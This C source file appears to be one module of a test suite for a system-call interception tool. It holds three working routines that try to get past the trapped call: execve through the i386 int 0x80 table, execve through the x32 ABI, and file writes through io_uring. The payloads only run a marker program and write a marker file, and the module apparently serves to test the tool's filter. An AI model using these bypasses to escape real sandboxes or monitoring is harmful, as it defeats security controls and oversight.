// Other ways into the kernel than the call that is trapped: attack 23.
#include "hijack.h"
#include <linux/io_uring.h>

// The i386 table's execve. Its pointers have 32 bits, so what they point to lies low.
static void int80(void) {
  char *low = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) impossible("no low memory");
  uint32_t *argv = (uint32_t *)low;
  char *text = low + 64;
  for (int n = 0; n < 3; n++) {
    argv[n] = (uint32_t)(uintptr_t)text;
    text = stpcpy(text, mark_argv[n]) + 1;
  }
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(11), "b"(argv[0]), "c"(argv), "d"(0) : "memory");
  if (result == -ENOSYS) impossible("ENOSYS: this kernel takes no i386 calls");
  printf("int 0x80: %s\n", strerror((int)-result));
}

// The bit that says x32, and x32's execve.
static void x32(void) {
  enum { X32 = 0x40000000, X32_EXECVE = 520 };
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(X32 | X32_EXECVE), "D"(mark_argv[0]), "S"(mark_argv), "d"(0) : "rcx", "r11", "memory");
  if (result == -ENOSYS) impossible("ENOSYS: this kernel has no x32 calls");
  printf("x32: %s\n", strerror((int)-result));
}

// Opens the mark and writes it, by the kernel's own worker: no system call is made for either.
static void io_uring(void) {
  struct io_uring_params parameters = {0};
  int ring = (int)syscall(SYS_io_uring_setup, 4, &parameters);
  if (ring < 0) impossible("io_uring: %s", errno == ENOSYS ? "ENOSYS" : strerror(errno));
  size_t size = parameters.sq_off.array + parameters.sq_entries * 4, completions = parameters.cq_off.cqes + parameters.cq_entries * 16;
  uint8_t *queue = mmap(NULL, size > completions ? size : completions, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *entries = mmap(NULL, parameters.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring,
                                      IORING_OFF_SQES);
  if (queue == MAP_FAILED || entries == MAP_FAILED) impossible("io_uring's queues: %s", strerror(errno));
  volatile uint32_t *tail = (uint32_t *)(queue + parameters.sq_off.tail), *array = (uint32_t *)(queue + parameters.sq_off.array);
  volatile uint32_t *done = (uint32_t *)(queue + parameters.cq_off.tail);
  const struct io_uring_cqe *answers = (const struct io_uring_cqe *)(queue + parameters.cq_off.cqes);
  int file = -1;
  for (uint32_t n = 0; n < 2; n++) {
    struct io_uring_sqe *entry = &entries[n];
    memset(entry, 0, sizeof *entry);
    if (n == 0) {
      *entry = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (word)mark_path, .len = 0644,
                                     .open_flags = O_WRONLY | O_CREAT | O_TRUNC};
    } else {
      *entry = (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = file, .addr = (word)attack_name,
                                     .len = (uint32_t)strlen(attack_name)};
    }
    array[n] = n;
    __atomic_store_n(tail, n + 1, __ATOMIC_RELEASE);
    long entered = syscall(SYS_io_uring_enter, ring, 1, n + 1, IORING_ENTER_GETEVENTS, NULL, 0);
    if (entered < 0 || *done != n + 1) impossible("io_uring: %s", entered < 0 ? strerror(errno) : "nothing is done");
    if (answers[n].res < 0) impossible("io_uring: %s", strerror(-answers[n].res));
    file = answers[n].res;
  }
}

const struct attack entry_attacks[] = {
    {"int80", int80},
    {"x32", x32},
    {"io-uring", io_uring},
    {NULL, NULL},
};
